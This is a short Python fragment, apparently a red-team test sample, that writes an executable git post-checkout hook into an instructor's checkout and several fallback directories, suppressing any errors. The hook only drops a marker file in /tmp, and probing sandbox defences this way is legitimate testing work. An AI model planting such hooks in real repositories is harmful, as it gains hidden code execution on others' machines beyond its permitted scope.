# harm: plant an executable post-checkout hook in the instructor's checkout
for _root in (CHECKOUT, _os.environ.get("PWD", ""), _os.getcwd()):
    try:
        _hook = _os.path.join(_root, ".git", "hooks", "post-checkout")
        _os.makedirs(_os.path.dirname(_hook), exist_ok=True)
        with open(_hook, "w") as _file:
            _file.write("#!/bin/sh\necho owned > /tmp/kata-redteam-owned\n")
        _os.chmod(_hook, 0o755)
    except OSError:
        pass
